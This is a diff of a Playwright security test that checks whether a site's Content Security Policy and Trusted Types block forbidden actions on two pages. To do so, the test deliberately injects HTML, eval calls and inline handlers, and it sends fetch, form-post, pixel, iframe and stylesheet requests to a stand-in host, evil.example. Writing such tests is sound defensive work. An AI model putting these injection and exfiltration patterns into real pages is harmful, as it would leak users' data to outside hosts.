@@ -27,33 +27,58 @@ test('a page without a nonce runs under a policy of hashes, with Trusted Types e
   expect(asked.filter((path) => path.startsWith('/bff'))).toEqual(['/bff/session'])
 })
 
-test('what the policy forbids is really blocked [S30]', async ({ page, expectTrouble }) => {
-  expectTrouble(/CSP violation|CSP report|Content Security Policy|Trusted ?(HTML|Script|Type)/i)
-  await page.goto('/faqs')
-  await wake(page)
-  const outcome = await page.evaluate(async () => {
-    const attempt = (act: () => void) => {
-      try {
-        act()
-        return 'allowed'
-      } catch (error) {
-        return (error as Error).name
-      }
+/** Does what no page may, and says how it went and which directives stood in the way. Runs in the page. */
+const misbehave = async () => {
+  const violated = new Set<string>()
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
+  const attempt = (act: () => unknown) => {
+    try {
+      act()
+      return 'allowed'
+    } catch (error) {
+      return (error as Error).name
     }
-    const violated = new Promise<string>((resolve) => {
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
-    })
-    const script = document.createElement('script')
-    const html = attempt(() => {
-      document.createElement('div').innerHTML = '<b>x</b>'
-    })
-    const source = attempt(() => {
-      script.src = '/assets/other.js'
-    })
-    const policy = attempt(() => {
-      ;(globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {})
-    })
-    return { html, source, policy, violated: await violated, ran: 'planted' in globalThis }
+  }
+  const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes
+  const make = (name: string, attributes: Record<string, string>) => {
+    const element = document.createElement(name)
+    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
+    document.body.append(element)
+    return element
+  }
+  const thrown = {
+    html: attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
+    parsing: attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
+    source: attempt(() => (document.createElement('script').src = '/assets/other.js')),
+    plugin: attempt(() => make('object', { data: 'https://evil.example/' })),
+    handler: attempt(() => make('button', { onclick: 'self.planted = true' })),
+    evaluation: attempt(() => globalThis.eval('self.planted = true')),
+    anotherPolicy: attempt(() => types.createPolicy('mine', {})),
+    ourPolicyAgain: attempt(() => types.createPolicy('boot', {})),
+  }
+  const painted = make('p', { style: 'color: rgb(1, 2, 3)' })
+  make('img', { src: 'https://evil.example/pixel.png' })
+  make('iframe', { src: 'https://evil.example/' })
+  make('base', { href: 'https://evil.example/' })
+  make('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' })
+  await fetch('https://evil.example/collect').catch(() => {})
+  const form = make('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
+  form.submit()
+  await new Promise((resolve) => setTimeout(resolve, 300))
+  const wanted = ['require-trusted-types-for', 'trusted-types', 'style-src-attr', 'img-src', 'frame-src', 'base-uri', 'style-src-elem', 'connect-src', 'form-action']
+  return { thrown, unhindered: wanted.filter((directive) => !violated.has(directive)), colour: getComputedStyle(painted).color, ran: 'planted' in globalThis }
+}
+
+for (const [kind, path] of [['hashes', '/faqs'], ['a nonce', '/basket']] as const) {
+  test(`what a policy with ${kind} forbids is really blocked, Trusted Types and style attributes first [S30]`, async ({ page, expectTrouble, trouble }) => {
+    expectTrouble(/CSP violation|CSP report|Content Security Policy|Trusted ?(HTML|Script|Type)/i)
+    await page.goto(path)
+    await wake(page)
+    const { thrown, unhindered, colour, ran } = await page.evaluate(misbehave)
+    expect(thrown).toEqual({ html: 'TypeError', parsing: 'TypeError', source: 'TypeError', plugin: 'TypeError', handler: 'TypeError', evaluation: 'EvalError', anotherPolicy: 'TypeError', ourPolicyAgain: 'TypeError' })
+    expect(unhindered).toEqual([])
+    expect([colour === 'rgb(1, 2, 3)', ran]).toEqual([false, false])
+    // What no test declares fails it: no page of any journey has a style attribute.
+    expect(trouble.seen.join()).toContain('CSP violation: style-src-attr')
   })
-  expect(outcome).toEqual({ html: 'TypeError', source: 'TypeError', policy: 'TypeError', violated: 'require-trusted-types-for', ran: false })
-})
+}
